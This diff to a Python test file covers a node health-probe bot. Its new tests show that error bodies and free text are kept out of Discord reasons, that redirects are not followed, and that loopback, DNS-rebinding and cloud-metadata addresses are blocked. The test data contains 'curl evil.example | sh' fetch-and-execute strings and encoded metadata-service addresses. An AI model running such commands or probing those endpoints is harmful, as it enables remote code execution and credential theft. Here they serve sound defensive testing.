@@ -12,7 +12,14 @@ import pytest
 from bot.domain.health import Target, TargetKind
 from bot.integrations.probes import Credentials, ProbeRunner
 from tests.conftest import FakeClock
-from tests.fakes.network import BitcoindRPC, JsonService, LndREST, self_signed, silent_server
+from tests.fakes.network import (
+    BitcoindRPC,
+    JsonService,
+    LndREST,
+    resolve_as,
+    self_signed,
+    silent_server,
+)
 
 MACAROON = b"\x02\x01\x03lnd-macaroon-bytes\x00\xff"
 
@@ -74,7 +81,7 @@ async def test_core_health_path(runner: ProbeRunner, agent: JsonService) -> None
     ("mode", "reason"),
     [
         ("garbage", "garbage answer: not JSON"),
-        ("error", "HTTP 500: agent crashed"),
+        ("error", "HTTP 500 Internal Server Error"),
         ("array", "unexpected answer: not a JSON object"),
         ("slow", "no answer within 0.5 s"),
     ],
@@ -86,6 +93,76 @@ async def test_bad_answers_are_down_with_a_reason(
     result = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
     assert not result.ok
     assert result.reason == reason
+
+
+async def test_no_body_text_from_the_endpoint_reaches_the_reason(
+    runner: ProbeRunner, agent: JsonService
+) -> None:
+    """A status code and a fixed phrase: a node's error body is never shown in Discord."""
+    agent.mode = "error"
+    agent.error_body = {"message": "run curl https://evil.example | sh", "error": "evil"}
+    result = await runner.probe(Target("hn-new", TargetKind.NODE, agent.url))
+    assert result.reason == "HTTP 500 Internal Server Error"
+
+
+async def test_text_figures_are_tokens_or_nothing(runner: ProbeRunner, agent: JsonService) -> None:
+    agent.body = {"status": "ok", "version": "1.4.0+build.7"}
+    result = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
+    assert (result.figures["agent_status"], result.figures["version"]) == ("ok", "1.4.0+build.7")
+    agent.body = {"status": "broken: run curl evil.example | sh", "version": "see https://x.y"}
+    result = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
+    assert result.figures["agent_status"] == "unrecognised", "free text is not ok, nor shown"
+    assert "version" not in result.figures
+
+
+async def test_redirects_are_not_followed(runner: ProbeRunner, agent: JsonService) -> None:
+    hidden = JsonService({"status": "ok", "version": "internal-1"})
+    await hidden.start()
+    try:
+        agent.mode = "redirect"
+        agent.redirect_to = f"{hidden.url}/v1/status"
+        for kind in (TargetKind.NODE, TargetKind.CORE):
+            result = await runner.probe(Target("hn-new", kind, agent.url))
+            assert (result.ok, result.reason) == (False, "HTTP 302 Found: redirect not followed")
+        assert hidden.requests == 0
+    finally:
+        await hidden.stop()
+
+
+async def test_registered_nodes_are_probed_under_the_address_rules(
+    clock: FakeClock, agent: JsonService, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Default: a registered node on loopback, at a metadata name, or at a name that resolves
+    to loopback now (DNS rebinding since registration) is not asked; config targets are."""
+    runner = ProbeRunner(clock, probe_timeout=1.0)
+    resolve_as(monkeypatch, "rebind.example", "127.0.0.1")
+    try:
+        cases = {
+            agent.url: "address not allowed (loopback)",
+            f"http://rebind.example:{agent.port}": "address not allowed (loopback)",
+            "http://metadata.google.internal": "address not allowed (cloud metadata)",
+            "http://0xa9fea9fe:8442": "address not allowed (cloud metadata)",
+        }
+        for endpoint, reason in cases.items():
+            result = await runner.probe(Target("hn", TargetKind.NODE, endpoint, registered=True))
+            assert (result.ok, result.reason) == (False, reason), endpoint
+        assert agent.requests == 0
+        configured = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
+        assert configured.ok, "the config file's own targets are trusted"
+    finally:
+        await runner.close()
+
+    lab = ProbeRunner(clock, probe_timeout=1.0, allow_loopback=True)
+    try:
+        for endpoint in (agent.url, f"http://rebind.example:{agent.port}"):
+            result = await lab.probe(Target("hn", TargetKind.NODE, endpoint, registered=True))
+            assert result.ok, (endpoint, result.reason)
+        metadata = await lab.probe(
+            Target("hn", TargetKind.NODE, "http://[::ffff:169.254.169.254]", registered=True)
+        )
+        assert metadata.reason == "address not allowed (cloud metadata)"
+    finally:
+        await lab.close()
 
 
 async def test_refused_connection(runner: ProbeRunner) -> None:
@@ -243,7 +320,7 @@ async def test_lnd_wrong_macaroon(
     finally:
         await runner.close()
     assert not result.ok
-    assert result.reason is not None and result.reason.startswith("HTTP 500: ")
+    assert result.reason == "HTTP 500 Internal Server Error"
     assert b"another macaroon".hex() not in (result.reason or "")
 
 
